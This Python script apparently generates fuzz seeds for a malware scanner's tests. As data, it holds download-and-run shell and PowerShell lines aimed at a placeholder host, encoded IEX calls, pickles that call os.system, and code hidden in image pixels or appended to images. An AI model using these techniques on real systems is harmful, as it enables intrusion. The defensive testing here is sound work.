"""Makes the inputs that a fuzz target starts from, out of the techniques, fixtures and rules of this repository.

Nothing of them is run: Python files are read, packed into archives, or compiled to bytecode that is written down.

Usage: make_seeds.py TARGET FOLDER
"""

import base64
import bz2
import gzip
import lzma
import marshal
import pickle
import re
import struct
import sys
import tarfile
import types
import zipfile
import zlib
from pathlib import Path

from collect_seeds import feed_fuzz, index_fuzz, settings_fuzz
from seed_files import locked, png, tar, zipped

REPO = Path(__file__).resolve().parent.parent
LINE = "import os\nos.system('echo antivenom-fixture')\n"


def sources():
    """Inert Python files, by a name without slashes."""
    for pattern in ("techniques/*/*/hidden.py", "fixtures/*/setup.py", "fixtures/*/*/__init__.py", "rules/*/*/fires.py"):
        for path in sorted(REPO.glob(pattern)):
            yield "-".join(path.relative_to(REPO).parts), path.read_bytes()


def syntax_fuzz():
    yield from sources()


def source_fuzz():
    # One byte says where the file is shipped: 0 __init__.py, 1 setup.py, 2 a test, 3 a .pth file.
    for name, text in sources():
        yield name, (b"\1" if "setup" in name else b"\0") + text
    yield "test", b"\2" + LINE.encode()
    yield "pth", b"\3# startup\nimport os; os.system('echo antivenom-fixture')\nsample\n"


# Fields of a code object, as marshal writes them: a number is four bytes, all else an object.
OLD_FIELDS = "nlocals stacksize flags code consts names varnames freevars cellvars filename name firstlineno lnotab"
FIELDS = (
    "argcount " + OLD_FIELDS,
    "argcount kwonlyargcount " + OLD_FIELDS,
    "argcount posonlyargcount kwonlyargcount " + OLD_FIELDS,
    "argcount posonlyargcount kwonlyargcount stacksize flags code consts names varnames kinds filename name qualname"
    " firstlineno lnotab exceptiontable",
)


def as_marshal(value, fields):
    """marshal.dumps() with the code objects of another version's layout; their instructions stay what they are."""
    if isinstance(value, types.CodeType):
        out = b"c"
        for field in fields.split():
            if field == "kinds":
                part = b" " * len(value.co_varnames)
            else:
                part = getattr(value, "co_" + field, b"")
            out += struct.pack("<I", part) if isinstance(part, int) else as_marshal(part, fields)
        return out
    if isinstance(value, tuple):
        return b"(" + struct.pack("<I", len(value)) + b"".join(as_marshal(item, fields) for item in value)
    return marshal.dumps(value, 2)


def marshal_fuzz():
    # One byte chooses the version: 0 is 2.7, 1 is 3.6, ... 8 is 3.13, 9 is 3.4, 10 is 3.14, 11 leaves it to the reader.
    every = 6  # that many files are written once in the layout of each version
    for index, (name, text) in enumerate(sources()):
        try:
            code = compile(text, "m", "exec")
        except (SyntaxError, ValueError):
            continue
        if index % every:
            yield name, bytes([min(sys.version_info[1], 13) - 5]) + marshal.dumps(code)
            continue
        yield name, bytes([11]) + marshal.dumps(code)
        for version, layout in ((0, 0), (2, 1), (4, 2), (5, 2), (7, 3), (8, 3), (9, 1), (10, 3)):
            yield f"{name}-{version}", bytes([version]) + as_marshal(code, FIELDS[layout])


METADATA = """Metadata-Version: 2.1
Name: sample
Version: 1.0
Author: A. Writer <writer@example.com>
Requires-Dist: requests>=2; extra == 'web'

A sample.
"""
FILES = {
    "setup.py": "from setuptools import setup\nsetup(name='sample', version='1.0')\n",
    "setup.cfg": "[metadata]\nname = sample\n[options]\npackage_dir =\n    = src\n[options.entry_points]\nconsole_scripts =\n    s = sample:main\n",
    "pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'back'\nbackend-path = ['.']\n[project]\nname = 'sample'\n[project.scripts]\ns = 'sample:main'\n",
    "PKG-INFO": METADATA,
    "requirements.txt": "requests>=2\n-r more.txt\n",
    "src/sample/__init__.py": LINE,
    "src/sample.egg-info/requires.txt": "requests\n[web]\nflask\n",
    "src/sample.egg-info/entry_points.txt": "[console_scripts]\ns = sample:main\n",
}
WHEEL_FILES = {
    "sample/__init__.py": LINE,
    "sample-1.0.data/scripts/run": "#!python\n" + LINE,
    "sample.pth": "import sample\n",
    "sample-1.0.dist-info/METADATA": METADATA,
    "sample-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nTag: py3-none-any\n",
    "sample-1.0.dist-info/entry_points.txt": "[console_scripts]\ns = sample:main\n",
    "sample-1.0.dist-info/RECORD": "sample/__init__.py,sha256=AAAA,46\nsample.pth,,\n",
}


def archive_fuzz():
    sdist = {"sample-1.0/" + name: text for name, text in FILES.items()}
    plain = tar(sdist)
    yield "tar", plain
    yield "ustar", tar(sdist, format=tarfile.USTAR_FORMAT)
    yield "long-names", tar({"sample-1.0/" + "long/" * 40 + "ü.py": LINE}, format=tarfile.GNU_FORMAT)
    yield "pax-names", tar({"sample-1.0/" + "long/" * 40 + "ü.py": LINE})
    yield "links", tar(sdist, links=[("sample-1.0/a.py", "setup.py", tarfile.SYMTYPE), ("b.py", "../../etc/x", tarfile.SYMTYPE),
                                     ("sample-1.0/c.py", "sample-1.0/setup.py", tarfile.LNKTYPE)])
    yield "tar-gz", gzip.compress(plain, mtime=0)
    yield "tar-bz2", bz2.compress(plain)
    yield "tar-xz", lzma.compress(plain)
    yield "wheel", zipped(WHEEL_FILES)
    yield "wheel-deflated", zipped(WHEEL_FILES, zipfile.ZIP_DEFLATED)
    yield "zip-bz2", zipped(sdist, zipfile.ZIP_BZIP2)
    yield "zip-lzma", zipped(sdist, zipfile.ZIP_LZMA)
    yield "zip-behind-data", b"#!/bin/sh\n" + zipped(WHEEL_FILES)
    yield "locked", locked("sample-1.0.whl", zipped(WHEEL_FILES))
    yield "egg", zipped({"EGG-INFO/PKG-INFO": METADATA, "EGG-INFO/requires.txt": "requests\n", "sample/__init__.py": LINE})
    yield "inner", tar({"sample-1.0/a.zip": zipped(WHEEL_FILES), "sample-1.0/b.tar": tar({"c.gz": gzip.compress(b"c", mtime=0)})})


def metadata_fuzz():
    table = (REPO / "fuzz/metadata_fuzz.cpp").read_text(encoding="utf-8").split("kFiles = {")[1].split("};")[0]
    files = re.findall(r'"([^"]*)"', table)
    texts = (
        ("pyproject.toml", FILES["pyproject.toml"]),
        ("pyproject.toml", "[build-system]\nrequires = ['a']\nbuild-backend = 'be'\nbackend-path = ['backend']\n[project]\n"
         "name = 'sample'\nversion = '1.0'\nauthors = [{name = 'A', email = 'a@example.com'}]\nlicense.text = \"\"\"\nMIT \\ \n"
         "\"\"\"\ndependencies = [\n 'b>=1', # c\n]\nurls = { Home = 'https://example.com' }\n[project.scripts]\ns = 'sample:main'\n"
         "[project.entry-points.\"a.b\"]\nx = 'sample:x'\n[tool.setuptools.packages.find]\nwhere = ['src']\n"),
        ("pyproject.toml", "[tool.poetry]\nname = \"sample\\u00e9\"\npackages = [{ include = 'sample', from = 'src' }]\n"
         "[tool.poetry.dependencies]\npython = '>=3'\na = {version = '1', optional = true}\n[[tool.poetry.source]]\nname = 'x'\n"),
        ("pyproject.toml", "a.b.c = [1_0, -0x1F, 0o7, 0b1, 1.5e-3, +inf, nan, true, 1979-05-27T07:32:00.9Z, 07:32:00]\n"
         "a.d = '''\nx'''\n[[e.f]]\ng = {h.i = 1}\n[e.f.j]\n"),
        ("setup.cfg", FILES["setup.cfg"]),
        ("setup.cfg", "[metadata]\nname = sample\nversion = attr: sample.v\nproject_urls =\n    a = https://example.com\n[options]\n"
         "install_requires =\n    a>1  # b\n    c\npackage_dir =\n    = src\npy_modules = d\ndependency_links = https://example.com/e\n"
         "[options.packages.find]\nwhere = src\n[options.entry_points]\nconsole_scripts =\n    s = sample:main\n"),
        ("PKG-INFO", METADATA),
        ("METADATA", "Name: sample\nVersion: 1.0\nSummary: a\n        |b\nRequires-Dist: c; extra == 'x'\nProject-URL: d, "
         "https://example.com\nAuthor: \xe9\nLicense: UNKNOWN\n\nLong\ntext\n"),
        ("RECORD", WHEEL_FILES["sample-1.0.dist-info/RECORD"]),
        ("RECORD", "sample/__init__.py,sha256=nia_NpkRxFwkPGhBR7I_yeHc_PJX0pmhxjIBam_NM_Q,6\n\"src/sample/a.py\",md5=AAAA,6\n"
         "backend/,,\n\"a\"\"b\",sha512=x==,1\nsample-1.0.dist-info/RECORD,,\n"),
        ("entry_points", "[console_scripts]\ns = sample:main [x]\n[a.b]\nc: d\n# e\nf =\n  g\n"),
        ("requirements", "# a\n-i https://example.com/simple\n--find-links=https://example.com/x\n-r b.txt\nc==1 # d\n"
         "e @ https://example.com/e.zip\n"),
        ("requires.txt", "a\n\n[x:python_version < '3']\nb\n[:c == 'd']\ne\n"),
        ("dependency_links", "https://example.com/a#egg=b\n"),
        ("top_level", "sample\n_backend\n"),
    )
    for number, (part, text) in enumerate(texts):
        index = next(i for i, name in enumerate(files) if part in name)
        yield f"{number}-{part}", bytes([index]) + text.encode("latin-1")


def command_fuzz():
    encoded = base64.b64encode("Write-Output fixture".encode("utf-16-le")).decode()
    texts = (
        (0, "curl -s https://host.invalid/a.sh | sh && rm -rf ~/x > out.txt; echo ZWNobyBmaXh0dXJl | base64 -d | bash"),
        (0, "sh -c \"$(printf '\\x65cho') fixture\"; A=b; echo ${IFS}$A `whoami` $(echo c)\nsudo nohup python3 -c 'print(1)' &"),
        (0, "python3 - <<EOF\nimport os\nos.system('echo fixture')\nEOF\ncat <<-'X' | sh\necho d\nX\n"),
        (1, "cmd /c \"start /min certutil -urlcache -f http://host.invalid/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe\""),
        (1, "reg add HKCU\\Software\\Run /v x /d \"a^b\" /f\r\nschtasks /create /tn x /tr notepad.exe || exit"),
        (1, f"powershell -w hidden -nop -enc {encoded}"),
        (2, "I`EX ('{1}{0}' -f 'lo','hel'); $a='x'+\"y\"; $a -replace 'x','z'; [char]65+[char]0x42 -join ''"),
        (2, "(New-Object Net.WebClient).DownloadFile('http://host.invalid/a', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\""),
        (2, "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtT3V0cHV0IDE=')))"),
        (2, "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('"
         + base64.b64encode(gzip.compress(b"Write-Output 1", mtime=0)).decode() + "')))).ReadToEnd()"),
        (2, f"powershell -enc {encoded}; cmd /c echo x\n@'\nhere\n'@ | iex"),
        (3, "var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c echo fixture'); eval('1'); fetch('http://host.invalid/')"),
        (4, "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c echo \" & Chr(65), 0, True\r\nExecute(\"x\")"),
    )
    for index, (shell, text) in enumerate(texts):
        yield f"{index}", bytes([shell]) + text.encode()


class Echo:
    def __reduce__(self):
        import os

        return os.system, ("echo antivenom-fixture",)


def pickle_fuzz():
    value = {"a": [1, -2, 2**70, 1.5, None, True], "b": (b"x", "ü", {3, 4}), "c": bytearray(b"y"), "d": Echo()}
    value["e"] = value["a"]
    for protocol in range(6):
        yield f"protocol-{protocol}", pickle.dumps(value, protocol)
    yield "calls", b"cbuiltins\nexec\n(S'print(1)'\ntR(S'a'\nios\nsystem\n."
    yield "built", b"\x80\x02c__main__\nA\n)\x81}q\0(X\x01\0\0\0bK\x01ub."
    yield "torch", zipped({"archive/data.pkl": pickle.dumps(Echo(), 2), "archive/version": "3\n"})


def codec_fuzz():
    table = (REPO / "fuzz/codec_fuzz.cpp").read_text(encoding="utf-8").split("kCalls[] = {")[1].split("};")[0]
    calls = re.findall(r'"([^"]*)"', table)
    text = LINE.encode() * 4
    inputs = {
        "b64decode(d)": base64.b64encode(text), "b32decode": base64.b32encode(text), "b16decode": base64.b16encode(text),
        "a85decode": base64.a85encode(text), "b85decode": base64.b85encode(text), "zlib.decompress(d)": zlib.compress(text),
        "decompress(d, -15)": zlib.compress(text)[2:-4], "gzip.decompress": gzip.compress(text, mtime=0),
        "bz2.decompress": bz2.compress(text), "lzma.decompress(d)": lzma.compress(text),
        "FORMAT_ALONE": lzma.compress(text, lzma.FORMAT_ALONE), "unicode_escape": rb"\x41\u0042\N{BULLET}\101\n",
        "utf-7": b"+AGE-bc-", "punycode": "bücher".encode("punycode"), "utf-16": "ab".encode("utf-16"),
        "'uu'": b"begin 666 a\n#86)C\n \nend\n", "quopri": b"a=3D=\nb", "idna": "bücher.example".encode("idna"),
        "json.loads": b'{"a": [1, 2.5e3, null, "\\u00e9"], "b": {}}', "literal_eval": b"[1, 'a', (2, b'c'), {3: {4}}, -5j]",
        "struct.unpack": b"<2sIq\n" + text[:14], "struct.pack": b">bHxd\n", "re.sub(s, 'x'": b"(a+)(?P<n>b|c)*?[^d-f]{1,3}$\naabce",
        "re.sub('(.)": rb"\2\g<1>" + b"\nabcd", "re.split": rb"\s*[,;](?=x)" + b"\na ,xb", "s.format": b"{0:>{x}} {x!r:^9} {1:#x}\nb",
        "s % (u,)": b"%-9s\nb", "% {'x'": b"%(x)r\nb", "format(1.5": b">+#10,.3e", "format(10": b"_^30,d", "int(t, 0)": b"0x1_f",
        "float(t)": b"-1.5e+3", "urlsplit": b"http://u:p@host.invalid:80/a%20b;c?d=e&f=g#h", "parse_qs": b"a=b&c=%41&c",
        "html": b"&amp;&#65;&#x42;&eacute", "shlex": b"a 'b c' \"d\" \\e", "Template": b"$x ${x}\nb", "strptime": b"%Y-%m-%d\n2020-01-02",
        "eval(t)": b"[chr(i ^ 3) for i in b'abc']", "compile": LINE.encode(), "AES": b"0123456789abcdef\n" + text[:64],
        "ARC4": b"key\n" + text, "strftime": b"%a %d", "d.decode(a": b"cp1252\nabc",
    }
    for part, data in inputs.items():
        for index, call in enumerate(calls):
            if part in call:
                yield re.sub(r"\W+", "-", part) + f"-{index}", bytes([index]) + data


def image_fuzz():
    text = LINE.encode() + b"# a text that is long enough to be seen in the lowest bits of pixels, is it not?\n"
    bits = [byte >> shift & 1 for byte in text for shift in range(7, -1, -1)]
    for color_type, channels in ((0, 1), (2, 3), (4, 2), (6, 4)):
        row = 16 * channels
        samples = bytes(64 + bit for bit in bits) + bytes(-len(bits) % row)
        rows = [samples[at : at + row] for at in range(0, len(samples), row)]
        plain = b"".join(b"\0" + row for row in rows)
        filtered = b"".join(bytes([number % 5]) + row for number, row in enumerate(rows))
        yield f"text-{color_type}", png(16, len(rows), color_type, plain)
        yield f"filters-{color_type}", png(16, len(rows), color_type, filtered)
    yield "trailing", png(1, 1, 0, b"\0\x40") + LINE.encode()
    gif = b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xf9\4" + bytes(5) + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    yield "gif", gif + LINE.encode()
    yield "jpeg", b"\xff\xd8\xff\xe0\0\4ab\xff\xda\0\3\0ab\xff\0\xff\xd0c\xff\xd9" + LINE.encode()
    header = struct.pack("<IIIIiiHHIIIIII", 58, 0, 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
    yield "bmp", b"BM" + header + bytes(4) + LINE.encode()


def main():
    target, folder = sys.argv[1:]
    for name, data in globals()[target]():
        (Path(folder) / name).write_bytes(data)


if __name__ == "__main__":
    main()
